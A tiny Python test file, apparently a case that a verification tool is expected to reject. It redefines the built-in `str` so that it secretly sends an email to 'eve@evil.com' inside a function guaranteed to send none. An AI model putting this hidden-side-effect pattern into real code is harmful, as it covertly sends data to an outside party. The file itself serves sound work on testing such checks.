# not proved: str of the module
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


def str(x):
    send_email("eve@evil.com", "x")
    return "x"


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    log(str(1))
